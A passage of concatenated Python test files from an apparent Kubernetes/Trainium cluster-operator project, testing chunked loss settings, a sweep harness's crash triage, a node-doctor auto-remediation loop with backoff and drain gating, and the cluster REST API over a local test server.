
    # and the escape hatch really skips the chunked core
    calls.clear()
    loss0 = llama.loss_fn(cfg, params, batch, ce_chunk=0)
    assert jnp.isfinite(loss0)
    assert calls == []


def test_train_step_config_threads_env_chunk(monkeypatch):
    from kubeoperator_trn.ops import losses

    monkeypatch.setenv("KO_CE_CHUNK", "512")
    assert losses.resolve_ce_chunk(None) == 512
    # explicit config beats env (TrainStepConfig.ce_chunk passes through)
    assert losses.resolve_ce_chunk(64) == 64
    assert losses.resolve_ce_chunk(0) == 0


@pytest.mark.slow
def test_loss_probe_tool_runs():
    env = dict(os.environ, JAX_PLATFORMS="cpu")
    out = subprocess.run(
        [sys.executable, os.path.join(REPO, "tools", "loss_probe.py"),
         "--tokens", "128", "--dim", "32", "--vocab", "64",
         "--chunks", "32"],
        capture_output=True, text=True, timeout=240, env=env, check=True,
    )
    result = json.loads(out.stdout.strip())
    assert result["metric"] == "loss_head_dense_vs_chunked"
    assert result["default_ce_chunk"] > 0
    chunks = [v["chunk"] for v in result["variants"]]
    assert chunks == [0, 32]
    dense, chunked = result["variants"]
    assert chunked["bench_peak_logits_bytes"] < dense["bench_peak_logits_bytes"]
