"""Sweep-harness triage hook: nonzero rc must carry evidence, not a
bare return code (the moe_ep rc=139 lesson, SWEEP_r05.jsonl)."""

import json
import os
import sys

sys.path.insert(0, os.path.join(
    os.path.dirname(os.path.dirname(os.path.abspath(__file__))), "tools"))

from sweep import _decode_rc, run_experiment, triage  # noqa: E402

# A fake experiment that logs bench-style phase markers, emits progress,
# then dies of SIGSEGV — shaped like the real moe_ep crash.
_SEGV = (
    "import os, signal, sys\n"
    "print('bench: platform=cpu n_devices=8', file=sys.stderr)\n"
    "print('bench: init+upload 1.0s', file=sys.stderr)\n"
    "sys.stderr.flush()\n"
    "os.kill(os.getpid(), signal.SIGSEGV)\n"
)

_OK = (
    "import json\n"
    "print('bench: platform=cpu n_devices=8')\n"
    "print(json.dumps({'metric': 'llama_train_mfu', 'value': 0.1}))\n"
)


def test_segfault_row_carries_triage():
    row = run_experiment("x", {}, cmd=[sys.executable, "-c", _SEGV], timeout=60)
    assert row["rc"] == 139  # shell convention: 128 + SIGSEGV
    assert row["result"] is None
    t = row["triage"]
    assert t["signal"] == "SIGSEGV"
    # the crash is localized to the last marker that made it out
    assert t["last_phase"] == "bench: init+upload 1.0s"
    assert any("init+upload" in line for line in t["log_tail"])
    json.dumps(row)  # row is JSONL-serializable as-is


def test_success_row_parses_result_json():
    row = run_experiment("x", {}, cmd=[sys.executable, "-c", _OK], timeout=60)
    assert row["rc"] == 0
    assert row["result"] == {"metric": "llama_train_mfu", "value": 0.1}
    assert "triage" not in row


def test_env_overlay_reaches_experiment():
    code = "import os; print(os.environ['KO_BENCH_ATTN'])"
    row = run_experiment("x", {"KO_BENCH_ATTN": "nki"},
                         cmd=[sys.executable, "-c", code], timeout=60)
    assert row["rc"] == 0


def test_decode_rc_conventions():
    assert _decode_rc(0) == (0, None)
    assert _decode_rc(2) == (2, None)
    assert _decode_rc(-11) == (139, "SIGSEGV")
    assert _decode_rc(139) == (139, "SIGSEGV")
    assert _decode_rc(-9) == (137, "SIGKILL")


def test_triage_without_markers():
    t = triage("no marker lines at all\nboom", -11)
    assert t["last_phase"] is None
    assert t["log_tail"][-1] == "boom"


def test_cmd_overlay_key_selects_command():
    from sweep import EXPERIMENTS

    code = ("import json, os; "
            "print(json.dumps({'metric': 'ok', "
            "'block': os.environ.get('KO_INFER_KV_BLOCK')}))")
    overlay = {"_cmd": [sys.executable, "-c", code],
               "KO_INFER_KV_BLOCK": "64"}
    row = run_experiment("serve_x", overlay, timeout=60)
    assert row["rc"] == 0
    # _cmd ran instead of bench.py, env overlay still applied, and the
    # reserved key never leaked into the child environment
    assert row["result"] == {"metric": "ok", "block": "64"}
    assert "_cmd" in overlay, "run_experiment must not mutate the table"

    # explicit cmd= wins over the row's _cmd
    row = run_experiment("serve_x", overlay,
                         cmd=[sys.executable, "-c",
                              "print('{\"metric\": \"explicit\"}')"],
                         timeout=60)
    assert row["result"] == {"metric": "explicit"}

    # the serving rows all carry a _cmd pointing at the probe (some add
    # trailing args like --leg, so scan the whole command line)
    serve = [k for k in EXPERIMENTS if k.startswith("serve_")]
    assert len(serve) >= 5
    assert all(any("serve_probe" in part for part in EXPERIMENTS[k]["_cmd"])
               for k in serve)
    assert "--leg" in EXPERIMENTS["serve_prefix"]["_cmd"]
