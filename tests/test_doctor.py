"""Node-doctor subsystem tests: tick-driven health state machine,
auto-remediation through the TaskEngine, circuit breaker + backoff
guard rails, and the events API (journal + pagination)."""

import json
import urllib.request
from dataclasses import asdict

import pytest

from kubeoperator_trn.cluster import entities as E
from kubeoperator_trn.cluster import events as EV
from kubeoperator_trn.cluster.db import DB
from kubeoperator_trn.cluster.doctor import NodeDoctor
from kubeoperator_trn.cluster.events import EventJournal
from kubeoperator_trn.cluster.neuron_monitor import (
    fake_monitor_sample, sample_health,
)
from kubeoperator_trn.cluster.notify import FakeChannel, NotificationService
from kubeoperator_trn.cluster.provisioner import EC2Trn2Provisioner, FakeCloud
from kubeoperator_trn.cluster.runner import FakeRunner, PhaseResult
from kubeoperator_trn.cluster.service import ClusterService
from kubeoperator_trn.cluster.taskengine import TaskEngine


def bad_sample(errors=2):
    return fake_monitor_sample(n_devices=1, cores_per_device=1,
                               device_errors=errors)


class Stack:
    """DB + engine(FakeRunner) + service + doctor with a fake clock and
    an injectable per-node sample dict."""

    def __init__(self, runner=None, **doctor_kw):
        self.db = DB()
        self.runner = runner or FakeRunner()
        self.channel = FakeChannel()
        notifier = NotificationService(self.db, extra_channels=[self.channel],
                                       synchronous=True)
        self.engine = TaskEngine(self.db, self.runner, workers=1,
                                 notifier=notifier)
        self.cloud = FakeCloud()
        provisioner = EC2Trn2Provisioner(self.db, self.cloud)
        self.service = ClusterService(self.db, self.engine, provisioner)
        self.journal = EventJournal(self.db)
        self.clock = 1000.0
        self.samples = {}
        kw = dict(fails_to_unhealthy=2, max_repairs=2, window_s=3600.0,
                  backoff_base_s=60.0, stale_after_s=180.0)
        kw.update(doctor_kw)
        self.doctor = NodeDoctor(
            self.db, self.service, self.journal, notifier=notifier,
            samples_fn=lambda: dict(self.samples),
            now_fn=lambda: self.clock, **kw)

    def seed_cluster(self, name="c1", workers=("w0", "w1"), provider="manual"):
        nodes = [asdict(E.Node(name="m0", host_id=f"h-{name}-m0",
                               role="master", status=E.ST_RUNNING))]
        for w in workers:
            nodes.append(asdict(E.Node(name=w, host_id=f"h-{name}-{w}",
                                       role="worker", status=E.ST_RUNNING)))
        cluster = asdict(E.Cluster(
            name=name, spec=asdict(E.ClusterSpec(provider=provider)),
            status=E.ST_RUNNING, nodes=nodes, kubeconfig="kc"))
        for i, n in enumerate(nodes):
            host = asdict(E.Host(name=f"{n['name']}-host", ip=f"10.9.0.{i+1}",
                                 status="Running", cluster_id=cluster["id"]))
            host["id"] = n["host_id"]
            self.db.put("hosts", host["id"], host)
        self.db.put("clusters", cluster["id"], cluster)
        return cluster

    def events(self, kind=None):
        evs = self.db.get_events(limit=1000)
        return [e for e in evs if kind is None or e["kind"] == kind]

    def doctor_notifications(self):
        return [(ev, p) for ev, p in self.channel.sent
                if ev.startswith("doctor.")]


def test_sample_health_verdicts():
    ok = fake_monitor_sample(n_devices=1, cores_per_device=1)
    assert sample_health(ok)["ok"]
    stale = dict(ok, timestamp=100.0)
    v = sample_health(stale, now=500.0, stale_after_s=180.0)
    assert not v["ok"] and "silent" in v["cause"]
    v = sample_health(bad_sample(3), now=0.0)
    assert not v["ok"] and "3 uncorrectable" in v["cause"]
    # no timestamp at all: judged on errors only
    nots = {"report": bad_sample(0)["report"]}
    assert sample_health(nots, now=1e12)["ok"]


def test_healthy_cluster_emits_nothing():
    s = Stack()
    s.seed_cluster()
    for _ in range(5):
        s.doctor.tick()
        s.clock += 15
    assert s.events() == []
    assert s.doctor.remediations == []


def test_device_errors_confirmed_then_auto_remediated():
    """The tentpole loop: degraded -> unhealthy -> drain+replace task ->
    cluster back to Running -> recovery recorded."""
    s = Stack()
    c = s.seed_cluster()
    s.samples["w0"] = bad_sample()

    s.doctor.tick()  # probe 1/2: degraded only, no remediation yet
    assert [e["kind"] for e in s.events()] == [EV.KIND_HEALTH_DEGRADED]
    assert s.doctor.remediations == []

    s.clock += 15
    s.doctor.tick()  # probe 2/2: confirmed unhealthy -> repair task
    kinds = [e["kind"] for e in s.events()]
    assert EV.KIND_HEALTH_UNHEALTHY in kinds
    assert EV.KIND_REMEDIATION_START in kinds
    assert len(s.doctor.remediations) == 1
    rem = s.doctor.remediations[0]
    assert rem["node"] == "w0" and "uncorrectable" in rem["cause"]

    assert s.engine.wait(rem["task_id"], timeout=30)
    task = s.db.get("tasks", rem["task_id"])
    assert task["status"] == E.T_SUCCESS and task["op"] == "repair"
    phase_names = [p["name"] for p in task["phases"]]
    assert phase_names[:2] == ["drain-nodes", "remove-nodes"]
    assert "kubeadm-join" in phase_names and "post-check" in phase_names
    assert task["extra_vars"]["remove_nodes"] == ["w0"]
    assert task["extra_vars"]["new_nodes"] == ["w0"]
    # the engine's normal success path put the cluster back to Running
    assert s.db.get("clusters", c["id"])["status"] == E.ST_RUNNING

    del s.samples["w0"]  # replacement host reports clean
    s.clock += 15
    s.doctor.tick()  # harvest: success event + notification
    assert s.events(EV.KIND_REMEDIATION_SUCCESS)
    sent = [ev for ev, _ in s.doctor_notifications()]
    assert "doctor.remediation.start" in sent
    assert "doctor.remediation.success" in sent

    s.clock += 15
    s.doctor.tick()
    assert len(s.doctor.remediations) == 1  # no repair-looping


def test_dead_ec2_host_detected_drained_and_replaced():
    """Fault injection on the provider path: a Down host is confirmed
    unhealthy within the probe window, the events table records the
    transition, the host row is re-provisioned, and the cluster returns
    to Running."""
    s = Stack()
    c = s.seed_cluster(name="trn", provider="ec2")
    hid = next(n["host_id"] for n in c["nodes"] if n["name"] == "w1")
    host = s.db.get("hosts", hid)
    host["status"] = "Down"
    s.db.put("hosts", hid, host)

    s.doctor.tick()
    s.clock += 15
    s.doctor.tick()
    unhealthy = s.events(EV.KIND_HEALTH_UNHEALTHY)
    assert unhealthy and unhealthy[0]["node"] == "w1"
    assert "Down" in unhealthy[0]["cause"]
    assert unhealthy[0]["cluster"] == "trn"

    rem = s.doctor.remediations[0]
    assert s.engine.wait(rem["task_id"], timeout=30)
    # the provisioner tore down and re-applied a single-instance plan
    assert len(s.cloud.destroyed) == 1 and len(s.cloud.applied) == 1
    assert list(s.cloud.applied[0]["resource"]["aws_instance"]) == ["w1"]
    host = s.db.get("hosts", hid)
    assert host["status"] == "Running" and host["ip"]
    assert s.db.get("clusters", c["id"])["status"] == E.ST_RUNNING
    drained = [i.playbook for i in s.runner.invocations]
    assert drained[:2] == ["drain-nodes", "remove-nodes"]

    s.clock += 15
    s.doctor.tick()  # harvest success; host healthy again -> recovered
    assert s.events(EV.KIND_REMEDIATION_SUCCESS)


def test_flapping_node_trips_circuit_breaker():
    """A node that stays broken after every repair exhausts the
    per-cluster budget; the breaker opens once (giveup event + alert)
    instead of repair-looping."""
    s = Stack(max_repairs=2)
    s.seed_cluster()
    s.samples["w0"] = bad_sample()  # never clears — flapping/persistent

    for _ in range(12):
        s.doctor.tick()
        for rem in s.doctor.remediations:
            s.engine.wait(rem["task_id"], timeout=30)
        s.clock += 15
    assert len(s.doctor.remediations) == 2  # the budget, then no more
    giveups = s.events(EV.KIND_REMEDIATION_GIVEUP)
    assert len(giveups) == 1  # breaker announces once, not every tick
    assert giveups[0]["severity"] == EV.SEV_CRITICAL
    assert any(ev == "doctor.remediation.giveup"
               for ev, _ in s.doctor_notifications())


def test_master_gets_manual_alert_not_auto_repair():
    s = Stack()
    c = s.seed_cluster()
    hid = next(n["host_id"] for n in c["nodes"] if n["name"] == "m0")
    host = s.db.get("hosts", hid)
    host["status"] = "Down"
    s.db.put("hosts", hid, host)

    for _ in range(4):
        s.doctor.tick()
        s.clock += 15
    assert s.doctor.remediations == []
    manual = s.events(EV.KIND_REMEDIATION_MANUAL)
    assert len(manual) == 1 and manual[0]["severity"] == EV.SEV_CRITICAL
    assert any(ev == "doctor.remediation.manual"
               for ev, _ in s.doctor_notifications())
    # quorum check also degrades at cluster level (1-master cluster)
    assert any(e["kind"] == EV.KIND_CHECK_FAILED
               and "quorum" in e["cause"] for e in s.events())


def test_failed_repair_backs_off_exponentially():
    runner = FakeRunner(script={
        "kubeadm-join": PhaseResult(ok=False, rc=1, summary="join broke")})
    s = Stack(runner=runner, backoff_base_s=60.0)
    s.seed_cluster()
    s.samples["w0"] = bad_sample()

    s.doctor.tick()
    s.clock += 15
    s.doctor.tick()  # repair #1 starts
    rem1 = s.doctor.remediations[0]
    assert s.engine.wait(rem1["task_id"], timeout=30)
    assert s.db.get("tasks", rem1["task_id"])["status"] == E.T_FAILED

    s.clock += 15
    s.doctor.tick()  # harvest failure -> backoff armed (60s)
    assert s.events(EV.KIND_REMEDIATION_FAILED)
    s.clock += 15
    s.doctor.tick()  # inside the backoff window: no new repair
    assert len(s.doctor.remediations) == 1

    s.clock += 61
    s.doctor.tick()  # backoff elapsed: retry
    assert len(s.doctor.remediations) == 2
    assert s.engine.wait(s.doctor.remediations[1]["task_id"], timeout=30)
    s.clock += 15
    s.doctor.tick()  # second failure doubles the delay
    key = next(iter(s.doctor._backoff))
    assert s.doctor._backoff[key]["attempts"] == 2
    assert s.doctor._backoff[key]["next_at"] == pytest.approx(s.clock + 120.0)


def test_stale_monitor_sample_flags_node():
    s = Stack()
    s.seed_cluster()
    sample = fake_monitor_sample(n_devices=1, cores_per_device=1)
    sample["timestamp"] = s.clock - 300  # DS stopped reporting 5 min ago
    s.samples["w1"] = sample
    s.doctor.tick()
    s.clock += 15
    s.doctor.tick()
    unhealthy = s.events(EV.KIND_HEALTH_UNHEALTHY)
    assert unhealthy and "silent" in unhealthy[0]["cause"]
    assert s.doctor.remediations and s.doctor.remediations[0]["node"] == "w1"


def test_journal_ring_prunes():
    db = DB()
    j = EventJournal(db, keep=50)
    j.PRUNE_EVERY = 10
    for i in range(120):
        j.record(EV.SEV_INFO, "health.check.passed", f"ev{i}")
    evs = db.get_events(limit=1000)
    assert len(evs) <= 60  # keep + at most one prune interval of slack
    assert evs[-1]["message"] == "ev119"  # newest survive


# -- events API over real HTTP ------------------------------------------

def _http(base, token, method, path, body=None):
    data = json.dumps(body).encode() if body is not None else None
    r = urllib.request.Request(base + path, data=data, method=method)
    r.add_header("Content-Type", "application/json")
    if token:
        r.add_header("Authorization", f"Bearer {token}")
    try:
        with urllib.request.urlopen(r) as resp:
            return resp.status, json.loads(resp.read())
    except urllib.error.HTTPError as e:
        return e.code, json.loads(e.read())


@pytest.fixture()
def http_app():
    from kubeoperator_trn.cluster.api import make_server
    from kubeoperator_trn.server import build_app

    api, engine, db = build_app(runner=FakeRunner(), admin_password="pw1")
    server, thread = make_server(api)
    thread.start()
    base = f"http://127.0.0.1:{server.server_address[1]}"
    _, out = _http(base, None, "POST", "/api/v1/auth/login",
                   {"username": "admin", "password": "pw1"})
    yield base, out["token"], api, db, engine
    engine.shutdown()
    server.shutdown()


def test_events_api_pagination_and_scoping(http_app):
    base, token, api, db, engine = http_app
    ca = {"id": "cid-a", "name": "alpha"}
    cb = {"id": "cid-b", "name": "beta"}
    db.put("clusters", ca["id"], {**ca, "spec": {}, "nodes": [],
                                  "status": E.ST_RUNNING})
    db.put("clusters", cb["id"], {**cb, "spec": {}, "nodes": [],
                                  "status": E.ST_RUNNING})
    for i in range(25):
        api.journal.record(
            EV.SEV_WARNING if i % 2 else EV.SEV_INFO,
            EV.KIND_CHECK_FAILED, f"event {i}",
            cluster=ca if i % 5 else cb, node=f"n{i}")

    status, _ = _http(base, None, "GET", "/api/v1/events")
    assert status == 401  # journal needs auth like the rest of the API

    seen, after = [], 0
    while True:
        status, page = _http(base, token, "GET",
                             f"/api/v1/events?limit=10&after={after}")
        assert status == 200
        if not page["items"]:
            break
        seen.extend(page["items"])
        assert len(page["items"]) <= 10
        after = page["next_after"]
    assert [e["message"] for e in seen] == [f"event {i}" for i in range(25)]
    assert [e["id"] for e in seen] == sorted(e["id"] for e in seen)

    status, scoped = _http(base, token, "GET",
                           "/api/v1/clusters/beta/events?limit=100")
    assert status == 200
    assert scoped["items"] and all(e["cluster"] == "beta"
                                   for e in scoped["items"])

    status, sev = _http(base, token, "GET",
                        "/api/v1/events?severity=warning&limit=100")
    assert status == 200
    assert sev["items"] and all(e["severity"] == "warning"
                                for e in sev["items"])

    status, _ = _http(base, token, "GET", "/api/v1/clusters/nope/events")
    assert status == 404


def test_build_app_wires_doctor(http_app):
    base, token, api, db, engine = http_app
    assert api.doctor is not None
    assert api.doctor.samples_fn == api.monitor_snapshot
    # monitor_report feeds the doctor's sample view
    _http(base, None, "POST", "/monitor/report",
          {"node": "w0", "sample": bad_sample()})
    assert "w0" in api.doctor.samples_fn()


# -- ISSUE 7: checkpoint-drain gate, job rescue, restart policy ---------

def _training_app(s, cluster, app_id="app-1", status="Running"):
    app = {"id": app_id, "name": "pretrain", "cluster_id": cluster["id"],
           "template": "llama3-1b-pretrain", "status": status}
    s.db.put("apps", app_id, app)
    return app


def test_drain_gate_waits_for_checkpoint_exit_then_repairs():
    """A sick worker running a training job is signalled first; the
    repair waits for the preempted rc, and after the repair lands the
    job is re-enqueued (rescue)."""
    from kubeoperator_trn.exitcodes import resolve_exit_preempted

    runner = FakeRunner(script={
        "signal-training-job": PhaseResult(
            ok=True, rc=resolve_exit_preempted(),
            summary="checkpointed and exited")})
    s = Stack(runner=runner, drain_grace_s=120.0)
    c = s.seed_cluster()
    _training_app(s, c)
    s.samples["w0"] = bad_sample()

    s.doctor.tick()
    s.clock += 15
    s.doctor.tick()  # confirmed unhealthy -> drain signalled, NOT repaired
    assert s.doctor.remediations == []
    assert s.events(EV.KIND_DRAIN_START)
    assert any(ev == "doctor.drain.start"
               for ev, _ in s.doctor_notifications())
    sig = next(t for t in s.db.list("tasks") if t["op"] == "signal")
    assert s.engine.wait(sig["id"], timeout=30)
    assert s.db.get("tasks", sig["id"])["status"] == E.T_SUCCESS

    s.clock += 15
    s.doctor.tick()  # drain confirmed by the rc -> repair proceeds
    done = s.events(EV.KIND_DRAIN_DONE)
    assert done and done[0]["severity"] == EV.SEV_INFO
    assert "rc=" in done[0]["message"]
    assert len(s.doctor.remediations) == 1
    rem = s.doctor.remediations[0]
    assert s.engine.wait(rem["task_id"], timeout=30)

    del s.samples["w0"]
    s.clock += 15
    s.doctor.tick()  # harvest success -> job rescued
    assert s.events(EV.KIND_REMEDIATION_SUCCESS)
    assert s.events(EV.KIND_JOB_RESCUED)
    assert any(ev == "doctor.job_rescued"
               for ev, _ in s.doctor_notifications())
    app = s.db.get("apps", "app-1")
    assert app["status"] == "Submitted" and app["restarts"] == 1
    deploys = [t for t in s.db.list("tasks")
               if t["op"] == "app"
               and t.get("extra_vars", {}).get("rescue")]
    assert len(deploys) == 1
    assert s.engine.wait(deploys[0]["id"], timeout=30)


def test_drain_gate_grace_expiry_proceeds_unconfirmed():
    """A signal task that never settles only holds the repair for
    KO_DOCTOR_DRAIN_GRACE_S; past the grace the doctor proceeds and says
    so."""
    hang = {"id": "sig-hang", "op": "signal", "cluster_id": "x",
            "status": E.T_RUNNING, "phases": []}

    def signal_fn(cluster, node, cause):
        hang["cluster_id"] = cluster["id"]
        return hang

    s = Stack(signal_fn=signal_fn, drain_grace_s=100.0)
    c = s.seed_cluster()
    s.db.put("tasks", hang["id"], hang)
    _training_app(s, c)
    s.samples["w0"] = bad_sample()

    s.doctor.tick()
    s.clock += 15
    s.doctor.tick()  # drain opened
    assert s.doctor.remediations == []
    s.clock += 15
    s.doctor.tick()  # still inside the grace window
    assert s.doctor.remediations == []
    assert not s.events(EV.KIND_DRAIN_DONE)

    s.clock += 101
    s.doctor.tick()  # grace elapsed -> proceed, warn about it
    done = s.events(EV.KIND_DRAIN_DONE)
    assert done and done[0]["severity"] == EV.SEV_WARNING
    assert "unconfirmed" in done[0]["message"]
    assert len(s.doctor.remediations) == 1


def test_dead_host_skips_drain():
    """Nothing left to signal on a Down host: the doctor goes straight
    to replace (the run resumes from its last atomic checkpoint)."""
    signalled = []
    s = Stack(signal_fn=lambda *a: signalled.append(a))
    c = s.seed_cluster()
    _training_app(s, c)
    hid = next(n["host_id"] for n in c["nodes"] if n["name"] == "w1")
    host = s.db.get("hosts", hid)
    host["status"] = "Down"
    s.db.put("hosts", hid, host)

    s.doctor.tick()
    s.clock += 15
    s.doctor.tick()
    assert signalled == []
    assert not s.events(EV.KIND_DRAIN_START)
    assert len(s.doctor.remediations) == 1
    # the job is still remembered for rescue after the repair
    assert list(s.doctor._rescue_app.values()) == ["app-1"]


def test_inference_app_gets_no_drain():
    """Only training jobs carry checkpoint state worth draining —
    inference apps redeploy statelessly."""
    signalled = []
    s = Stack(signal_fn=lambda *a: signalled.append(a))
    c = s.seed_cluster()
    _training_app(s, c, app_id="app-serve")
    app = s.db.get("apps", "app-serve")
    app["template"] = "llama3-8b-serve"
    s.db.put("apps", "app-serve", app)
    s.samples["w0"] = bad_sample()

    s.doctor.tick()
    s.clock += 15
    s.doctor.tick()
    assert signalled == []
    assert len(s.doctor.remediations) == 1
    assert s.doctor._rescue_app == {}


# -- taskengine restart policy -----------------------------------------

def _engine_stack(runner, **engine_kw):
    import time as _time

    db = DB()
    engine = TaskEngine(db, runner, workers=1, **engine_kw)
    service = ClusterService(db, engine,
                             EC2Trn2Provisioner(db, FakeCloud()))
    cluster = {"id": "c-rst", "name": "c1", "spec": {}, "nodes": [],
               "status": E.ST_RUNNING}
    db.put("clusters", cluster["id"], cluster)

    def poll(task_id, want, timeout=15.0):
        # engine.wait() is per-enqueue: a restarted task re-enters the
        # queue on a Timer, so poll the store for the terminal status
        deadline = _time.time() + timeout
        while _time.time() < deadline:
            t = db.get("tasks", task_id)
            if t and t["status"] == want:
                return t
            _time.sleep(0.02)
        raise AssertionError(
            f"task never reached {want}: {db.get('tasks', task_id)}")

    return db, engine, service, cluster, poll


def test_preempted_task_is_restarted_and_succeeds():
    from kubeoperator_trn.telemetry import get_registry

    runner = FakeRunner(script={"app-deploy": [
        PhaseResult(ok=False, rc=75, summary="preempted"),
        PhaseResult(ok=True, rc=0)]})
    db, engine, service, cluster, poll = _engine_stack(
        runner, restart_backoff_s=0.05)
    ctr = get_registry().counter(
        "ko_ops_taskengine_restarts_total",
        "Preempted tasks auto-re-enqueued by the restart policy", ("op",))
    before = ctr.labels(op="app").value

    task = service._make_task(cluster, "app", ["app-deploy"],
                              extra_vars={"app_id": "a1"})
    t = poll(task["id"], E.T_SUCCESS)
    assert t["restarts"] == 1
    assert ctr.labels(op="app").value == before + 1
    # two real invocations of the same playbook: the retry re-ran it
    deploys = [i for i in runner.invocations if i.playbook == "app-deploy"]
    assert len(deploys) == 2
    engine.shutdown()


def test_restart_budget_exhausts_to_failed(monkeypatch):
    monkeypatch.setenv("KO_MAX_RESTARTS", "2")
    runner = FakeRunner(script={
        "app-deploy": PhaseResult(ok=False, rc=75, summary="preempted")})
    db, engine, service, cluster, poll = _engine_stack(
        runner, restart_backoff_s=0.02)
    task = service._make_task(cluster, "app", ["app-deploy"],
                              extra_vars={})
    t = poll(task["id"], E.T_FAILED)
    assert t["restarts"] == 2  # budget consumed, then terminal failure
    engine.shutdown()


def test_plain_failure_is_not_restarted():
    runner = FakeRunner(script={
        "app-deploy": PhaseResult(ok=False, rc=1, summary="crash")})
    db, engine, service, cluster, poll = _engine_stack(
        runner, restart_backoff_s=0.02)
    task = service._make_task(cluster, "app", ["app-deploy"],
                              extra_vars={})
    t = poll(task["id"], E.T_FAILED)
    assert t.get("restarts", 0) == 0
    engine.shutdown()
