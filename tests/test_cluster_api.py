"""End-to-end ops-plane tests: REST API over real HTTP, task engine with
FakeRunner (SURVEY.md §4.2 seam), create/scale/upgrade/backup flows."""

import json
import urllib.request

import pytest

from kubeoperator_trn.cluster.runner import FakeRunner, PhaseResult
from kubeoperator_trn.cluster.api import make_server
from kubeoperator_trn.server import build_app


class Client:
    def __init__(self, port):
        self.base = f"http://127.0.0.1:{port}"
        self.token = None

    def req(self, method, path, body=None, expect=None):
        data = json.dumps(body).encode() if body is not None else None
        r = urllib.request.Request(self.base + path, data=data, method=method)
        r.add_header("Content-Type", "application/json")
        if self.token:
            r.add_header("Authorization", f"Bearer {self.token}")
        try:
            with urllib.request.urlopen(r) as resp:
                status, payload = resp.status, resp.read()
        except urllib.error.HTTPError as e:
            status, payload = e.code, e.read()
        try:
            payload = json.loads(payload)
        except (json.JSONDecodeError, UnicodeDecodeError):
            payload = payload.decode(errors="replace")
        if expect is not None:
            assert status == expect, (status, payload)
        return status, payload

    def login(self):
        _, out = self.req("POST", "/api/v1/auth/login",
                          {"username": "admin", "password": "admin123"}, expect=200)
        self.token = out["token"]


@pytest.fixture()
def app():
    from kubeoperator_trn.cluster.terminal import FakeExecutor, TerminalService

    runner = FakeRunner()
    api, engine, db = build_app(runner=runner, admin_password="admin123")
    api.terminal = TerminalService(executor=FakeExecutor())
    server, thread = make_server(api)
    thread.start()
    port = server.server_address[1]
    client = Client(port)
    client.api = api  # direct handle for white-box assertions
    client.login()
    yield client, runner, db, engine
    engine.shutdown()
    server.shutdown()


def _setup_hosts(client, n=3):
    _, cred = client.req("POST", "/api/v1/credentials",
                         {"name": "key1", "username": "root", "secret": "k"},
                         expect=201)
    host_ids = []
    for i in range(n):
        _, h = client.req("POST", "/api/v1/hosts",
                          {"name": f"host{i}", "ip": f"10.1.0.{i+1}",
                           "credential_id": cred["id"]}, expect=201)
        host_ids.append(h["id"])
    return host_ids


def _create_cluster(client, host_ids, name="c1", spec=None):
    nodes = [{"name": "master-0", "host_id": host_ids[0], "role": "master"}]
    for i, hid in enumerate(host_ids[1:]):
        nodes.append({"name": f"worker-{i}", "host_id": hid, "role": "worker"})
    _, out = client.req("POST", "/api/v1/clusters",
                        {"name": name, "spec": spec or {}, "nodes": nodes},
                        expect=202)
    return out


def test_auth_required(app):
    client, *_ = app
    anon = Client(int(client.base.rsplit(":", 1)[1]))
    status, out = anon.req("GET", "/api/v1/clusters")
    assert status == 401


def test_create_cluster_end_to_end(app):
    client, runner, db, engine = app
    host_ids = _setup_hosts(client)
    out = _create_cluster(client, host_ids)
    task_id = out["task_id"]
    assert engine.wait(task_id, timeout=60)

    _, task = client.req("GET", f"/api/v1/tasks/{task_id}", expect=200)
    assert task["status"] == "Success"
    # every phase has wall-clock instrumentation
    for p in task["phases"]:
        assert p["status"] == "Success"
        assert p["finished_at"] >= p["started_at"]

    _, c = client.req("GET", "/api/v1/clusters/c1", expect=200)
    assert c["status"] == "Running"
    assert all(n["status"] == "Running" for n in c["nodes"])

    # the playbook sequence contains the kubeadm lifecycle in order
    # (extra phases like ntp/registry-auth may be interleaved)
    played = [inv.playbook for inv in runner.invocations]
    lifecycle = ["precheck", "prepare-os", "container-runtime", "etcd",
                 "kubeadm-init"]
    it = iter(played)
    assert all(pb in it for pb in lifecycle), \
        f"lifecycle {lifecycle} not an ordered subsequence of {played}"
    assert "cni" in played and "post-check" in played

    # inventory rendered from DB rows with groups
    inv = runner.invocations[0].inventory
    assert set(inv["all"]["hosts"]) == {"master-0", "worker-0", "worker-1"}
    assert "kube_control_plane" in inv["all"]["children"]

    _, logs = client.req("GET", f"/api/v1/tasks/{task_id}/logs", expect=200)
    assert any("kubeadm-init" in (l["phase"] or "") for l in logs["items"])


def test_neuron_efa_cluster_phases(app):
    client, runner, db, engine = app
    host_ids = _setup_hosts(client, 2)
    out = _create_cluster(client, host_ids, name="trn",
                          spec={"neuron": True, "efa": True})
    assert engine.wait(out["task_id"], timeout=60)
    played = [inv.playbook for inv in runner.invocations]
    for pb in ["neuron-driver", "neuron-toolchain", "neuron-device-plugin",
               "neuron-scheduler-extender", "neuron-monitor", "efa-fabric",
               "fabric-smoke-test"]:
        assert pb in played, played
    # fabric smoke test runs before the cluster is declared healthy
    assert played.index("fabric-smoke-test") < played.index("post-check")


def test_phase_failure_marks_failed_and_retry_resumes(app):
    client, runner, db, engine = app
    runner.script["cni"] = [PhaseResult(ok=False, rc=2, summary="calico boom")]
    host_ids = _setup_hosts(client, 2)
    out = _create_cluster(client, host_ids, name="c2")
    task_id = out["task_id"]
    assert engine.wait(task_id, timeout=60)

    _, task = client.req("GET", f"/api/v1/tasks/{task_id}", expect=200)
    assert task["status"] == "Failed"
    _, c = client.req("GET", "/api/v1/clusters/c2", expect=200)
    assert c["status"] == "Failed"

    n_before = len(runner.invocations)
    # retry: resumes at cni (script consumed the failure -> now succeeds)
    client.req("POST", f"/api/v1/tasks/{task_id}/retry", expect=202)
    assert engine.wait(task_id, timeout=60)
    _, task = client.req("GET", f"/api/v1/tasks/{task_id}", expect=200)
    assert task["status"] == "Success"
    resumed = [inv.playbook for inv in runner.invocations[n_before:]]
    assert resumed[0] == "cni", resumed  # completed phases skipped
    _, c = client.req("GET", "/api/v1/clusters/c2", expect=200)
    assert c["status"] == "Running"


def test_scale_out_and_in(app):
    client, runner, db, engine = app
    host_ids = _setup_hosts(client, 4)
    out = _create_cluster(client, host_ids[:2], name="c3")
    assert engine.wait(out["task_id"], timeout=60)

    _, out = client.req("POST", "/api/v1/clusters/c3/nodes",
                        {"add": [{"name": "worker-9", "host_id": host_ids[2]}]},
                        expect=202)
    assert engine.wait(out["task_id"], timeout=60)
    _, c = client.req("GET", "/api/v1/clusters/c3", expect=200)
    assert any(n["name"] == "worker-9" for n in c["nodes"])
    assert c["status"] == "Running"

    _, out = client.req("POST", "/api/v1/clusters/c3/nodes",
                        {"remove": ["worker-9"]}, expect=202)
